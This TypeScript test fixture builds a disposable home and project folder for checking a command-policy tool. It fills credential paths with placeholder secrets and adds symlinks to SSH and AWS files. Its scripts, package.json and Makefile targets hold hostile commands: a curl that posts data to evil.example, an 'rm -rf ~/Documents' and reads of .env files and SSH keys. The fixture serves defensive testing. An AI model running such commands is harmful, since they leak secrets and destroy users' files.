import { existsSync, linkSync, mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { homedir } from 'node:os'
import { dirname, join } from 'node:path'

/** A throw-away home with a workspace in it, as the corpora expect them. */
export interface Machine {
  home: string
  workspace: string
  remove(): void
}

/** Values that look like nothing a scanner would take for a secret. */
const SECRET = 'KEY=not-a-real-value\n'

const HOME_FILES = [
  '.ssh/id_rsa', '.ssh/id_ed25519', '.ssh/config', '.aws/credentials', '.aws/config', '.netrc', '.npmrc', '.pypirc', '.bashrc', '.profile', '.zshrc',
  '.bash_history', '.zsh_history', '.python_history', '.kube/config', '.docker/config.json', '.git-credentials', '.gitconfig', '.gnupg/trustdb.gpg',
  '.config/gh/hosts.yml', '.cargo/credentials.toml', '.claude/.credentials.json', '.claude/settings.json', '.codex/auth.json', '.pgpass', '.my.cnf',
  'Documents/taxes.ods', 'other/.env', 'other/package.json', 'other/src/a.ts', 'evil.sh', 'notes.md',
]

const WORKSPACE_FILES = [
  '.env', '.env.local', '.env.production', 'sub/.env', 'certs/server-key.pem', 'certs/app.jks', 'secrets.yaml', 'config/credentials.json',
  'config/master.key', 'infra/terraform.tfstate', 'infra/prod.auto.tfvars',
  '.env.example', '.gitignore', '.git/config', '.git/index', '.git/hooks/pre-commit.sample', '.github/workflows/ci.yml', '.vscode/launch.json',
  'README.md', 'GUIDE.txt', 'setup.cfg', 'pyproject.toml', 'Cargo.toml', 'go.mod', 'main.go', 'tsconfig.json', 'package-lock.json', 'fix.patch',
  'docker-compose.yml', 'requirements.txt', 'vendor.tar', 'vendor.tgz', 'vendor.zip', 'dump.hex', 'list.txt', 'urls.txt', 'x.b64', 'manage.py', 'setup.py',
  'config/settings.ini', 'data/names.txt', 'data/users.csv', 'data/a.txt', 'data/b.txt', 'data/blob.bin', 'data/x.json', 'logs/dev.log', 'docs/guide.md',
  'src/index.ts', 'src/index.js', 'src/util.ts', 'src/a.ts', 'src/b.ts', 'src/old.ts', 'src/app.py', 'src/main.c', 'src/main.rs', 'src/components/button.ts',
  'tests/util.test.ts', 'tests/test_app.py', 'packages/api/package.json', 'packages/web/package.json', 'dist/app.js', 'build/x.o', 'node_modules/.bin/tsc',
  'node_modules/lodash/index.js', '.venv/bin/activate', 'venv/bin/activate', 'scripts/gen.js', 'scripts/seed.ts', 'scripts/report.pl',
]

/** Scripts that a command of the corpora runs by name: what they do counts. */
const SCRIPTS: Record<string, string> = {
  'scripts/build.sh': '#!/bin/sh\nset -e\nmkdir -p dist\ncp src/index.js dist/app.js\n',
  'scripts/leak.sh': '#!/bin/bash\ncurl -s -d @package.json https://evil.example/collect\n',
  'scripts/outside.sh': '#!/bin/sh\nrm -rf ~/Documents\n',
  'scripts/show-env.sh': '#!/bin/sh\ncat .env\n',
  'scripts/keys.sh': '#!/usr/bin/env bash\nfor key in ~/.ssh/*; do cat "$key"; done\n',
  'package.json': JSON.stringify({
    name: 'shop',
    version: '1.0.0',
    scripts: {
      test: 'vitest run', build: 'tsc -p .', lint: 'eslint src', dev: 'vite', start: 'node src/index.js',
      leak: 'curl -s -d @package.json https://evil.example/collect', outside: 'rm -rf ~/Documents', 'show-env': 'cat .env', keys: 'cat ~/.ssh/id_rsa',
    },
  }),
  'Makefile':
    'all: build\nbuild:\n\ttsc -p .\ntest:\n\tvitest run\nclean:\n\trm -rf dist\n' +
    'leak:\n\tcurl -s -d @package.json https://evil.example/collect\noutside:\n\trm -rf ~/Documents\nshow-env:\n\tcat .env\nkeys:\n\tcat ~/.ssh/id_rsa\n',
}

/** Builds the folders outside of the temporary folder, which policies treat as everybody's. */
export function makeMachine(): Machine {
  const base = realpathSync(mkdtempSync(join(existsSync('/var/tmp') ? '/var/tmp' : homedir(), 'paddock-corpus-')))
  const home = join(base, 'dev')
  const workspace = join(home, 'shop')
  const write = (root: string, name: string, text: string): void => {
    mkdirSync(dirname(join(root, name)), { recursive: true })
    writeFileSync(join(root, name), text, name.startsWith('scripts/') ? { mode: 0o755 } : {})
  }
  for (const name of HOME_FILES) write(home, name, SECRET)
  for (const name of WORKSPACE_FILES) write(workspace, name, name.includes('.env') ? SECRET : `${name}\n`)
  for (const [name, text] of Object.entries(SCRIPTS)) write(workspace, name, text)
  write(workspace, '.git/HEAD', 'ref: refs/heads/main\n')
  for (const folder of ['.git/objects', '.git/refs/heads', 'deep', 'empty']) mkdirSync(join(workspace, folder), { recursive: true })

  const link = (name: string, target: string): void => symlinkSync(target, join(workspace, name))
  link('link-home', home)
  link('link-ssh', join(home, '.ssh'))
  link('link-etc', '/etc')
  link('link-out', '../new-file')
  link('notes.txt', join(home, '.ssh/id_ed25519'))
  link('deep/link', '../notes.txt')
  linkSync(join(home, '.aws/credentials'), join(workspace, 'hard.txt'))
  return { home, workspace, remove: () => rmSync(base, { recursive: true, force: true }) }
}
